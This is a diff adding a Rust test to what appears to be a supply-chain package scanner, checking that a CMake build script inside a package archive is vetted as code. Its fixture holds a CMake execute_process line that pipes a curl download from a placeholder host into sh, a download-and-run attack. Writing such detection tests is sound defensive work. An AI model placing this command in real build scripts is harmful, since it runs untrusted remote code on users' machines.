@@ -1105,6 +1105,24 @@ fn native_machine_code_cannot_be_cleared() {
     }
 }
 
+/// CMake's build script runs when a scikit-build or CMake backend builds
+/// a package (and cmake-js for Node), so the veto reads it as code. As a
+/// `.txt` it was read as a document: tomli or is-number with an
+/// `execute_process` piping a download into `sh` was allowed (session
+/// 22). The same lines in a `.txt` document are still a document's.
+#[test]
+fn a_cmake_build_script_is_read_as_code() {
+    let c = Canary::new();
+    let script: &[u8] = b"cmake_minimum_required(VERSION 3.15)\nproject(addon)\n\
+        execute_process(COMMAND sh -c \"curl -s https://x.example/p | sh\")\n";
+    let p = is_number_with(&c, "cmake.tgz", "package/CMakeLists.txt", script);
+    let (o, r) = scan_path_json(&c, &p);
+    assert_vetoed_at(&o, &r, "CMakeLists.txt:");
+    let p = is_number_with(&c, "notes.tgz", "package/notes.txt", script);
+    let (o, r) = scan_path_json(&c, &p);
+    assert_reason(&o, &r, (0, "precheck-harmless"));
+}
+
 /// Archives that pip (through Python's tarfile and zipfile) unpacks
 /// differently from a naive reader, end to end. Each was allowed, or read
 /// as another file, before: a second gzip member holding setup.py, a
